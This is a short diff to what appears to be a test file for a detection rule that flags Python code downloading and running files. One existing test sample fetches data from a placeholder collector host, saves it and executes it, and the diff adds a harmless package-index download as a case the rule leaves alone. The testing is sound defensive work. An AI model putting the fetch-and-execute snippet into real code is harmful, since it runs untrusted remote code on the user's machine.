@@ -9,6 +9,8 @@ testRule(downloadAndRun, {
       "import requests, subprocess\ndata = requests.get('https://collector.example.invalid').content\nwith open('out.bin', 'wb') as f:\n    f.write(data)\nsubprocess.call('out.bin')",
   },
   unseen: {
+    'a command that fetches from the package index':
+      "import subprocess, urllib.request\nurllib.request.urlretrieve('https://pypi.org/a.tar.gz', 'a.tar.gz')\nsubprocess.call(['wget', 'https://pypi.org/a.tar.gz', '-O', 'a.tar.gz'])",
     'a download that stays data':
       "import urllib.request\nurllib.request.urlretrieve('https://collector.example.invalid/a', '/tmp/a.csv')",
   },
